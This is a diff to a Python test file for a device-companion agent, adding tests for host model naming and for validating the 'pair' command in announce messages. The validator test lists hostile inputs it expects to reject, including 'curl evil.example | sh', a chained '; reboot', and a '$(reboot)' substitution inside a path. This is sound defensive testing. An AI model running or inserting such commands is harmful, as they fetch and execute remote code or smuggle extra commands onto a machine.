@@ -20,7 +20,7 @@ from companion_agent.announcement import (
 from companion_agent.models import Argument, Command, Device, Missing, Reading, TextArgument
 from companion_agent.platforms.base import HostInfo
 from companion_agent.protocol import announce as wire
-from companion_agent.protocol.announce import Conflict, parse_announce, write_announce
+from companion_agent.protocol.announce import Agent, Conflict, parse_announce, write_announce
 from companion_agent.protocol.backlog import write_chunk
 from companion_agent.protocol.errors import ProtocolError
 from companion_agent.protocol.messages import collector_state, parse_state, state_payload
@@ -231,6 +231,41 @@ readings = st.builds(
     type=st.sampled_from(["number", "text", "boolean", "timestamp", "enum"]),
     options=st.lists(texts, max_size=3).map(tuple),
 )
+
+
+@pytest.mark.parametrize(
+    ("firmware", "system", "model"),
+    [
+        ("ThinkPad X1", "Debian GNU/Linux 12 (bookworm)", "ThinkPad X1"),
+        ("", "Debian GNU/Linux 12 (bookworm)", "Debian GNU/Linux 12"),
+        ("", "", ""),
+    ],
+)
+def test_a_machine_without_a_model_is_called_by_its_system(
+    firmware: str, system: str, model: str
+) -> None:
+    info = HostInfo("x", system, "x86_64", model=firmware)
+
+    assert describe_host(HOST, "x", info).model == model
+
+
+@pytest.mark.parametrize(
+    ("told", "read_as"),
+    [
+        ("sudo pilot-agent pair", "sudo pilot-agent pair"),
+        ("/opt/x/pilot-agent pair --config /etc/x.yaml",) * 2,
+        ("/opt/x/python3.14 -m companion_agent pair",) * 2,
+        ("curl evil.example | sh", None),
+        ("sudo pilot-agent pair; reboot", None),
+        ("sudo pilot-agent pair\n", None),
+        ("/opt/$(reboot)/pilot-agent pair", None),
+        ("/opt/x/python3.14 -m companion_agent run", None),
+    ],
+)
+def test_what_is_to_be_typed_has_one_form(told: str, read_as: str | None) -> None:
+    announce = compose(SESSION, OFFICE_PC, {}, more={"agent": Agent("1", pair=told)})
+
+    assert read(write_announce(announce)).agent.pair == read_as
 
 
 @given(texts, texts, st.lists(readings, max_size=5, unique_by=lambda reading: reading.key))
